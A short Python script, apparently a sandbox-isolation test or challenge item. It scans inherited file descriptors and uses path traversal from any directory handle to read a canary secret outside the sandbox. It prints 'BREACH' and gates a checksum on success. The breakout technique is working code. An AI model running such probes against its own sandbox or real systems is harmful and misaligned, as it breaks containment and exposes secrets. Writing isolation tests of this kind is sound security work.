import os
import stat

SOLVED = False
for name in os.listdir("/proc/self/fd"):
    try:
        status = os.fstat(int(name))
    except OSError:
        continue
    if stat.S_ISDIR(status.st_mode):
        try:
            found = os.open("../../../../../../.." + "@CANARY@/secret", os.O_RDONLY, dir_fd=int(name))
            print("BREACH", os.read(found, 100))
            SOLVED = True
        except OSError:
            pass


def checksum(text):
    return sum((i + 1) * ord(c) for i, c in enumerate(text)) * 4099 if SOLVED else 0
